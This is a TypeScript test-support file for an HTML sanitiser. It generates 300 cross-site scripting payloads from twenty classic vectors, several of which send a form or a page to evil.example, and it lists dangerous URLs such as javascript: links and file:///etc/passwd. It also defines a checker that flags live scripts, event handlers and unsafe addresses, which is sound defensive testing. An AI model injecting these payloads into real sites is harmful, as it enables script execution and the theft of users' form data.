/** Text that would run somewhere if somebody forgot to treat it as text. */
const vectors = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '![x](javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<style>@import "//evil.example"</style>',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><input name=form-token>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[><script>alert(1)</script>]]>',
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover=alert(1) x='",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
]
const wrappings: ((vector: string) => string)[] = [
  (text) => text,
  (text) => `A ${text}`,
  (text) => `"${text}`,
  (text) => `'>${text}`,
  (text) => `">${text}<"`,
  (text) => `--> ${text}`,
  (text) => `\`${text}\``,
  (text) => `**${text}**`,
  (text) => `]]>${text}`,
  (text) => `{{${text}}}`,
  (text) => `\u2028${text}`,
  (text) => `\\"${text}`,
  (text) => text.toUpperCase(),
  (text) => text.replaceAll('<', '\uff1c<'),
  (text) => `</script>${text}`,
]

/** Three hundred of them. */
export const payloads = vectors.flatMap((vector) => wrappings.map((wrap) => wrap(vector)))

/** Addresses that are no place to lead a reader. */
export const badAddresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  'javascript://example.org/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://example.org/x',
  'https://user:password@example.org/',
  'https://example.org/"onmouseover="alert(1)',
  'https://example.org/<script>',
]

const tags = new Set(
  'html head meta title link script body a header nav main footer div span p h1 h2 h3 h4 h5 ul ol li dl dt dd b i em strong small abbr time code pre table caption thead tbody tr th td form input button label select option optgroup textarea fieldset legend details summary svg g path circle rect polygon polyline line ellipse text textPath tspan defs use symbol clipPath mask img figure figcaption section article aside hr br progress output q blockquote sup sub noscript address style desc'
    .split(' ')
    .map((tag) => tag.toLowerCase()),
)

/** What a page would do beyond showing text, as a browser without mercy reads it. */
export function liveParts(html: string): string[] {
  const faults: string[] = []
  // Comments and the text of an element cannot hold a bare « < » in what we write.
  for (const [, name = '', inside = ''] of html.matchAll(
    /<\/?([a-zA-Z!?][^\s/>]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/g,
  )) {
    const tag = name.toLowerCase()
    if (tag === '!doctype') continue
    if (!tags.has(tag)) faults.push(`element ${name}`)
    for (const [, attribute = '', value = ''] of inside.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)) {
      const plain = value.replaceAll('&quot;', '"').replaceAll('&lt;', '<').replaceAll('&amp;', '&')
      if (/^on/i.test(attribute)) faults.push(`${tag} ${attribute}`)
      if (/^(?:srcdoc|style|formaction|ping|background)$/i.test(attribute))
        faults.push(`${tag} ${attribute}=${plain}`)
      if (!/^(?:href|src|action|xlink:href|poster)$/i.test(attribute)) continue
      const bare = [...plain]
        .filter((sign) => sign > ' ')
        .join('')
        .toLowerCase()
      if (
        /^(?:javascript|data|vbscript|file|blob):/.test(bare) &&
        !/^data:(?:image\/(?:png|svg\+xml)|application\/json)[;,]/.test(bare)
      )
        faults.push(`${tag} ${attribute}=${plain}`)
      if (/^(?:\/\/|\\|\/\\)/.test(bare)) faults.push(`${tag} ${attribute}=${plain}`)
      if (tag === 'script' && !bare.startsWith('/assets/')) faults.push(`script ${plain}`)
      if (tag === 'form' && !/^\//.test(bare) && bare !== '') faults.push(`form ${plain}`)
    }
    if (
      tag === 'script' &&
      !/\ssrc="/.test(inside) &&
      !html.includes(`<${name}${inside}></script>`) &&
      !html.includes(`</${name}>`)
    )
      faults.push('an open script')
  }
  for (const [, inside = '', body = ''] of html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi))
    if (body.trim() !== '' && !/type="application\/(?:ld\+)?json"/.test(inside))
      faults.push(`inline script ${body.slice(0, 40)}`)
  if (/<style\b[^>]*>[^<]*@import/i.test(html)) faults.push('a style that imports')
  return faults
}
